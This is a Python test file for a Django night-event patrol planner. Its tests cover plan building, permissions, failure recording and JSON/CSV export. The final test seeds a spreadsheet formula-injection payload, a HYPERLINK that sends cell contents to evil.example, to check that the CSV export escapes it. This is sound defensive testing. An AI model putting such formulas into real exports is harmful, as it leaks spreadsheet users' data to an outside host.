import json

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import CommandError, call_command

from nightout.planner.result import validate
from nightout.visits import adapter
from nightout.visits.models import PlanVersion, Stop, VersionStatus
from nightout.visits.services import version_queue_build
from tests.visits.conftest import SYSTEM

pytestmark = pytest.mark.django_db


def test_adapter_maps_events_and_units_to_seconds_of_the_night(season, units, parties):
    problem = adapter.build_problem(season)
    site = problem.site_by_id()[str(parties[0].pk)]
    assert (site.hours.start, site.hours.end) == (17 * 3600, 21 * 3600)
    assert site.requests == ("fire", "police")
    unit = problem.unit_by_id()[str(units[0].pk)]
    assert (unit.shift.start, unit.shift.end) == (16 * 3600 + 1800, 21 * 3600 + 1800)
    assert [s.order for s in problem.sites] == [1, 2, 3, 4, 5, 6]


def test_version_queue_build_runs_the_task_and_saves_a_valid_version_with_its_comparison(
        season, units, parties):
    version = version_queue_build(actor=SYSTEM, season=season, seconds=1)
    assert version.status == VersionStatus.DONE and version.progress == 100
    assert version.number == 1 and version.feasible
    assert version.parties_reached == 6 and version.visits_made == 9
    assert version.fcfs_parties is not None and version.more_parties_than_fcfs >= 0
    stops = list(version.stops.all())
    assert len(stops) == 9
    problem = adapter.build_problem(season)
    report = validate(adapter.plan_from_stops(stops, season, adapter.planned_units(season)),
                      problem)
    assert report.feasible, report.errors
    assert all(s.arrival <= s.start < s.departure for s in stops)
    assert all(s.start >= parties[0].starts_at for s in stops)


def test_each_build_keeps_the_earlier_versions(season, units, parties):
    first = version_queue_build(actor=SYSTEM, season=season, seconds=1)
    second = version_queue_build(actor=SYSTEM, season=season, seconds=1, seed=2)
    assert [v.number for v in PlanVersion.objects.order_by("number")] == [1, 2]
    assert first.stops.count() == 9 and second.stops.count() == 9


def test_version_queue_build_is_refused_to_a_crew_member(season, units, parties, police):
    from nightout.accounts.models import Membership, Role, User
    from nightout.registry.actors import Actor

    crew = User.objects.create_user("crew", password="pw")
    Membership.objects.create(user=crew, role=Role.CREW, agency=police)
    with pytest.raises(PermissionDenied):
        version_queue_build(actor=Actor.of(crew), season=season, seconds=1)


def test_version_queue_build_without_units_says_so(season, parties):
    with pytest.raises(ValidationError):
        version_queue_build(actor=SYSTEM, season=season, seconds=1)
    # The command line says it plainly, without a traceback.
    with pytest.raises(CommandError, match="Add units before building a plan"):
        call_command("plan", "--season", season.slug, "--seconds", "1")


def test_a_failed_solve_is_recorded_on_the_version(season, units, parties, monkeypatch):
    from nightout.visits import worker

    def broken(*args, **kwargs):
        raise RuntimeError("solver crashed")

    monkeypatch.setattr(worker, "solve", broken)
    version = version_queue_build(actor=SYSTEM, season=season, seconds=1)
    assert version.status == VersionStatus.FAILED and "solver crashed" in version.error


def test_nightout_plan_builds_and_exports_json_and_csv(season, units, parties, capsys):
    call_command("plan", "--season", season.slug, "--seconds", "1")
    assert "parties against first come, first served" in capsys.readouterr().out
    call_command("plan", "export", "--season", season.slug, "--format", "json")
    doc = json.loads(capsys.readouterr().out)
    stops = [s for u in doc["units"] for s in u["stops"]]
    assert len(stops) == Stop.objects.count() == 9
    assert {"latitude", "longitude", "arrival", "departure"} <= set(stops[0])
    assert stops[0]["arrival"].endswith("-04:00")  # in the town's zone (EDT)
    call_command("plan", "export", "--season", season.slug, "--format", "csv")
    lines = capsys.readouterr().out.strip().splitlines()
    assert lines[0].startswith("unit,agency,kind,order") and len(lines) == 10


def test_nightout_plan_export_keeps_formulas_as_text_in_its_csv(season, units, parties, capsys):
    import csv
    import io

    from nightout.registry.models import Event

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    Event.objects.filter(pk=parties[0].pk).update(title=formula, address="@SUM(1,2)")
    call_command("plan", "--season", season.slug, "--seconds", "1")
    capsys.readouterr()
    call_command("plan", "export", "--season", season.slug, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    party = [r for r in rows if r["event_id"] == str(parties[0].pk)]
    assert party and {(r["event"], r["address"]) for r in party} == {
        ("'" + formula, "'@SUM(1,2)")}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r"))
                   for row in rows for cell in row.values())
    assert rows[0]["latitude"] != "" and not rows[0]["latitude"].startswith("'")
